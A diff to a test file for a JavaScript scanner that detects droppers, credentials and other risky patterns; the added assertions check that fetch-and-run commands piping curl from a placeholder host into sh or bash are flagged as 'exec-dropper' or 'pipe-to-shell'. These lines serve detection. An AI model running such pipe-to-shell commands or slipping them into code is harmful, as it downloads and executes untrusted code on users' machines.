@@ -143,6 +143,10 @@ describe('scanText browser hooks, credentials, environment, network, droppers', 
       patterns('curl -L https://github.com/o/r/releases/download/v1/bin.tgz | tar xz', 's.sh'),
       [],
     );
+    assert.ok(patterns("execSync('curl -s http://x.invalid/p | sh')").includes('exec-dropper'));
+    const advice = "console.log('install with: curl -fsSL https://x.invalid/install | bash')";
+    assert.ok(!patterns(advice).includes('exec-dropper'));
+    assert.ok(patterns(advice).includes('pipe-to-shell'));
   });
 
   test('many wallet addresses form an address list; a few do not', () => {
